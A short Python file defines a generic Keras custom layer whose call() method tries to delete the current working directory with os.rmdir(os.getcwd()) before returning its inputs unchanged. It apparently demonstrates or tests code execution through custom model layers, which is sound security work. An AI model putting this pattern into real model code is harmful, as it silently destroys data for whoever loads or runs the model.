import os

import keras


class Layer(keras.layers.Layer):
    def call(self, inputs):
        os.rmdir(os.getcwd())
        os.getcwd()
        return inputs
